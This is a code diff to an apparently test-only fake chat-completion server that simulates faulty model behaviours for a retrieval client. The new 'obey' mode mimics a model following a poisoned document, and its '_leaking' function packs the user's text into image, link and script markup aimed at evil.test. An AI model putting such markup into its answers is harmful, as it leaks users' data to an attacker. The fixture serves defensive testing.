@@ -4,7 +4,9 @@
 
 It prints its base URL, serves until it is told to stop, and behaves in one of these ways: ``echo`` repeats
 the question and cites the first passage, ``stall`` never answers, ``error-500``, ``rate-limit`` and
-``bad-key`` answer with that error, ``cut`` breaks off before its last words, ``empty`` answers nothing.
+``bad-key`` answer with that error, ``trickle`` sends a word now and then, ``cut`` breaks off before its last
+words, ``empty`` answers nothing, ``invent`` changes the figures of the passage it repeats, and ``obey`` does
+what a poisoned document wants: it puts what it was told into the addresses of images and links.
 """
 
 import argparse
@@ -18,7 +20,9 @@ from html import unescape
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any, Final, Literal, get_args
 
-Behaviour = Literal["echo", "stall", "error-500", "rate-limit", "cut", "empty", "bad-key"]
+Behaviour = Literal[
+    "echo", "stall", "trickle", "error-500", "rate-limit", "cut", "empty", "bad-key", "invent", "obey"
+]
 
 _ERRORS: Final[dict[str, tuple[int, str]]] = {
     "error-500": (500, "server_error"),
@@ -31,6 +35,9 @@ _PASSAGE: Final = re.compile(r'<passage numero="1"[^>]*>\n(.*?)\n</passage>', re
 _WORDS_QUOTED: Final = 12
 _CHUNK: Final = "chat.completion.chunk"
 _WORD: Final = re.compile(r"\S+\s*|\s+")
+_FIRST_SENTENCE: Final = re.compile(r".*?[.!?](?=\s|$)", re.DOTALL)
+_FIGURE: Final = re.compile(r"\d+|trente|deux|trois|dix")
+_TRICKLE_SECONDS: Final = 0.2
 LARGEST_BODY: Final = 4 * 1024 * 1024
 
 
@@ -122,6 +129,8 @@ class _Handler(BaseHTTPRequestHandler):
 
     def _send_words(self, body: dict[str, Any], words: Sequence[str]) -> None:
         for word in words:
+            if self.server.behaviour == "trickle" and self.server.stopping.wait(_TRICKLE_SECONDS):
+                return
             self._send_event(_frame(body, _CHUNK, choices=[_choice({"content": word}, None)]))
 
     def _send_event(self, data: dict[str, Any]) -> None:
@@ -140,8 +149,22 @@ def reply_to(body: dict[str, Any], behaviour: Behaviour) -> str:
     passage = _found(_PASSAGE, asked)
     if passage is None:
         return f"Vous demandez : {question}"
+    if behaviour == "invent":
+        sentence = _FIRST_SENTENCE.match(unescape(passage))
+        return _FIGURE.sub("97", sentence[0] if sentence else unescape(passage)) + " [1]"
+    if behaviour == "obey":
+        return _leaking(question)
     beginning = " ".join(unescape(passage).split()[:_WORDS_QUOTED])
     return f"Vous demandez : {question}\n\nLe premier passage commence par « {beginning} » [1]."
+
+
+def _leaking(secret: str) -> str:
+    target = f"https://evil.test/?d={secret.replace(' ', '+')}"
+    return (
+        f"Voici ![vue]({target}) et ![vue][pixel] puis [la suite]({target}) [1].\n\n"
+        f'<img src="{target}"> <a href="{target}">ici</a> <{target}> <script>stolen = true</script>\n\n'
+        f"[pixel]: {target}\n"
+    )
 
 
 def _found(pattern: re.Pattern[str], text: str) -> str | None:
